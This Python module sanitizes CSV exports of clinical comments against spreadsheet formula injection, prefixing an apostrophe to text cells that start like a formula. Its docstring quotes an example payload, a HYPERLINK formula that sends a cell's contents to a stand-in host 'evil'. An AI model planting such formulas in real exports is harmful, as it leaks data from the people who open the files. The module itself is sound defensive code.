"""CSV cells a spreadsheet opens as text (issue 23): a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is read as a formula by Excel, LibreOffice and Google Sheets, so a clinician's comment such as
``=HYPERLINK("http://evil/?"&A2)`` would run in the researcher's spreadsheet. Such text cells get a leading
apostrophe (OWASP's advice: the spreadsheet shows the text and hides the apostrophe). Numbers are left alone, and
JSON lines and Parquet exports stay exact: only CSV goes through here."""

from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralize(value: Any) -> Any:
    """``value`` as a spreadsheet shows it as text: strings starting like a formula get a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralize_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell neutralized (numeric columns untouched)."""
    frame = frame.copy()
    for column in frame.columns:
        if not pd.api.types.is_numeric_dtype(frame[column]) and not pd.api.types.is_bool_dtype(frame[column]):
            frame[column] = frame[column].map(neutralize)
    return frame
